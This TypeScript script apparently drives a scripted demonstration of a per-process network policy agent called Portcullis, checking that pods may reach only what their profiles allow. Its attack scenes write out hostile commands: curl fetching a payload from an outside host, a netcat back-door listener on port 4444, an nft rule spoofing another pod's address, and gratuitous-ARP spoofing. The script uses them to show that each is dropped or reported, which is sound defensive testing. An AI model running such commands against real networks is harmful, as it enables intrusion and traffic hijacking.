/** The steps about what profiles allow: names, addresses, processes, attacks. */
import { setTimeout as sleep } from "node:timers/promises";
import type { WorkloadEvent } from "../../src/flow/record.ts";
import { must } from "./command.ts";
import type { Story } from "./story.ts";
import { ADDRESS, netnsOf, OUTSIDE, OUTSIDE_NAME, PODS, PONG_NAME } from "./topology.ts";

const PAGE = `http://${PONG_NAME}/`;
/** Of pong, and of somewhere else. */
const PONG_SAYS = "pong\n";
const OUTSIDE_SAYS = "outside\n";
/** curl's exit status where an answer does not come in time. */
const CURL_TIMEOUT = 28;

const MY_APP = "/usr/local/bin/my-app";
const PONG = "/usr/local/bin/pong";
const CURL = "/usr/bin/curl";

/** How long a port stays open for the agent to notice. */
const LISTEN_MS = 150;

export async function withoutPortcullis(story: Story): Promise<void> {
  await story.begin("Without Portcullis, everybody talks to everybody");
  const pong = await story.shell("ping", `curl -sS ${PAGE}`);
  story.holds(pong.stdout === PONG_SAYS, "the page of pong", pong);
  story.holds(story.stage.hasHeard("ping", PONG_NAME), "the resolver has received the question", "it has not");
  const outside = await story.shell("pong", `curl -sS http://${OUTSIDE_NAME}/`);
  story.holds(outside.stdout === OUTSIDE_SAYS, "the page of somewhere else", outside);
  const attacker = await story.shell("attacker", `curl -sS ${PAGE}`);
  story.holds(attacker.stdout === PONG_SAYS, "the page of pong", attacker);
  story.conclude("A shell in a pod reaches whatever the pod's program reaches, and more.");
}

export async function start(story: Story): Promise<void> {
  const { screen, stage } = story;
  await story.begin("The agent puts the profiles in force");
  const workloads = PODS.map((pod) => `--netns ${netnsOf(pod)}:app=${pod}`);
  screen.command("node", `portcullis agent --profiles examples/ ${workloads.slice(0, 1).join(" ")} ...`);
  const begun = performance.now();
  const agent = stage.startAgent();
  agent.subscribe((event) => story.hear(event));
  await agent.ready();
  const took = ((performance.now() - begun) / 1000).toFixed(1);
  for (const pod of PODS) {
    const workload = await story.event(
      (event): event is WorkloadEvent => event.type === "workload" && event.workload.name === netnsOf(pod),
      `a line of type "workload" for ${netnsOf(pod)}`,
    );
    story.holds(workload.state === "enforced", `${pod} enforced`, workload);
    screen.verdict(
      `enforced ${pod.padEnd(8)} on ${workload.interfaces.join(", ")}, by ${workload.profiles.join(", ")}`,
    );
  }
  story.conclude(`In force on three pods ${took} s after the command, and found what was running already.`);
}

export async function allowed(story: Story): Promise<void> {
  await story.begin("my-app does what its profile says", ["ping", "pong"]);
  story.screen.explain(
    `ping.yaml: ${MY_APP} may ask for ${PONG_NAME}, and speak HTTP on port 80 to the addresses that it learns so.`,
  );
  const { stdout } = await story.program("ping", `my-app -sS ${PAGE}`);
  await story.verdict({ pod: "ping", verdict: "allowed", path: MY_APP, name: PONG_NAME });
  const { dst } = await story.verdict({ pod: "ping", verdict: "allowed", path: MY_APP, proto: "tcp" });
  story.holds(dst.name === PONG_NAME, "the address was allowed because of its name", dst);
  await story.verdict({ pod: "pong", verdict: "allowed", path: PONG, direction: "ingress" });
  story.holds(stdout === PONG_SAYS, "the page of pong", stdout);
  story.conclude("Answered. The address was learned from the answer, in the kernel, before the answer arrived.");
}

export async function otherName(story: Story): Promise<void> {
  await story.begin("my-app asks for a name that is not listed", ["ping"]);
  const { status } = await story.program("ping", `my-app -sSm1 http://${OUTSIDE_NAME}/`);
  await story.verdict({ pod: "ping", verdict: "dropped", reason: "DnsName", path: MY_APP, name: OUTSIDE_NAME });
  story.holds(status === CURL_TIMEOUT, "my-app gets no answer", status);
  story.holds(!story.stage.hasHeard("ping", OUTSIDE_NAME), "the resolver has not received the question", "it has");
  story.conclude("The resolver has never seen the question: nothing is smuggled out in a name either.");
}

export async function otherAddress(story: Story): Promise<void> {
  await story.begin("my-app connects to an address that no name has led to", ["ping"]);
  const { status } = await story.program("ping", `my-app -sSm1 http://${OUTSIDE}/`);
  await story.verdict({ pod: "ping", verdict: "dropped", reason: "Peer", path: MY_APP });
  story.holds(status === CURL_TIMEOUT, "my-app cannot connect", status);
  story.conclude("Without a name that was asked for and answered, an address is worth nothing.");
}

export async function shellInPing(story: Story): Promise<void> {
  await story.begin("Somebody opens a shell in ping, and does the same as my-app", ["ping", "pong"]);
  story.screen.explain(`${CURL} is the very same program as my-app, byte for byte. It is not the same executable.`);
  const { status } = await story.shell("ping", `curl -sSm1 http://${ADDRESS.pong}/`);
  await story.verdict({ pod: "ping", verdict: "dropped", reason: "BinaryUnknown", path: CURL });
  story.holds(status === CURL_TIMEOUT, "curl cannot connect", status);
  const app = await story.program("ping", `my-app -sS ${PAGE}`);
  story.holds(app.stdout === PONG_SAYS, "my-app still gets the page of pong", app);
  story.conclude("Same pod, same address, same port: my-app is answered, the shell is not.");
}

export async function shellInPong(story: Story): Promise<void> {
  await story.begin("Somebody breaks into pong", ["pong"]);
  story.screen.explain(`pong.yaml: ${PONG} may be spoken to on port 80. Nobody may begin a conversation.`);
  const { status } = await story.shell("pong", `curl -sSm1 http://${OUTSIDE}/payload`);
  await story.verdict({ pod: "pong", verdict: "dropped", reason: "BinaryUnknown", path: CURL, direction: "egress" });
  story.holds(status === CURL_TIMEOUT, "curl cannot connect", status);
  const backDoor = story.open("pong", "nc -l -p 4444");
  try {
    const { process } = await story.verdict({ pod: "pong", verdict: "alerted", reason: "Listen", type: "listen" });
    story.holds(process?.path?.startsWith("/usr/bin/nc") === true, "nc listens", process);
    await sleep(LISTEN_MS);
  } finally {
    backDoor.kill("SIGKILL");
  }
  story.conclude("The shell reaches nothing, and the back door is reported as it is opened.");
}

export async function attacker(story: Story): Promise<void> {
  await story.begin("The attacker tries it from a pod of its own", ["attacker", "pong"]);
  story.screen.explain("attacker.yaml: no process is listed, so nobody may do anything.");
  const before = await neighbour();
  await story.shell("attacker", `curl -sSm1 http://${ADDRESS.pong}/`);
  await story.verdict({ pod: "attacker", verdict: "dropped", reason: "BinaryUnknown", path: CURL });
  await story.shell("attacker", `nft add rule ip disguise out ip daddr ${ADDRESS.pong} snat to ${ADDRESS.ping}`);
  await story.shell("attacker", `curl -sSm1 http://${ADDRESS.pong}/`);
  await story.verdict({ pod: "attacker", verdict: "dropped", reason: "IpSpoofing" });
  await story.shell("attacker", `arping -U -c1 -I eth0 -s ${ADDRESS.pong} ${ADDRESS.pong} >/dev/null`);
  await story.verdict({ pod: "attacker", verdict: "dropped", reason: "ArpSpoofing" });
  story.holds(before === (await neighbour()), "ping still knows pong by its own hardware address", await neighbour());
  story.conclude("Neither in its own name, nor under the address of ping or in the place of pong.");
}

/** The hardware address under which ping knows pong. */
async function neighbour(): Promise<string | undefined> {
  const json = await must(["ip", "-json", "-netns", netnsOf("ping"), "neighbour", "show", ADDRESS.pong]);
  const [entry] = JSON.parse(json) as { lladdr?: string }[];
  return entry?.lladdr;
}
